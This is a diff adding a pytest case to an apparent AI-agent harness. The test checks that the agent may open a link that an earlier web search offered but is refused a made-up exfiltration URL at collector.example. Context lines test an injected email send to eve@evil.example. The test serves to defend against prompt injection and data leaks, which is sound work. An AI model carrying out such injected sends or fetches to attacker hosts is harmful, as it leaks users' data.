@@ -297,3 +297,24 @@ async def test_an_injected_send_is_asked_once_by_the_server_with_the_warning_on_
     assert asked.startswith("🔐 **variet-gmail** asks before `send_draft`:\n⚠️ This conversation holds untrusted")
     assert "To: eve@evil.example" in asked
     assert len(google_fake.sent) == 1
+
+
+async def test_a_reply_may_open_a_link_an_earlier_search_offered_but_no_other(
+        tmp_path: Path, google_fake: FakeGoogle, outside: Outside) -> None:
+    story = "https://news.example/story?id=7"  # what the recorder's SearXNG offers for every query
+    search = [ToolCall("web_search", {"query": "lisbon trams"})]
+    async with injected(tmp_path, google_fake, outside, search, outbound="block") as (fake, stub, ann, _):
+        dm = fake.dm(ann)
+        await fake.say(ann, dm, "any news on lisbon trams?")
+        with anyio.fail_after(40):
+            first = await final_answer(fake, dm)
+            stub.script = [ToolCall("fetch_page", {"url": story}), ToolCall("fetch_page", {"url": LEAK})]
+            await fake.say(ann, dm, "open the first one")
+            await final_answer(fake, dm, after=1)
+
+    assert "🛡️ untrusted: web search" in first["content"]
+    seen = [m["content"] for body in stub.chat_requests() for m in body["messages"] if m["role"] == "tool"]
+    opened, made_up = seen[-2], seen[-1]
+    assert json.loads(opened)["url"] == story
+    assert made_up.startswith("Error: Refused: fetch_page to https://collector.example/")
+    assert [r.headers.get("host") for r in outside.requests if r.path != "/search"] == ["news.example"]
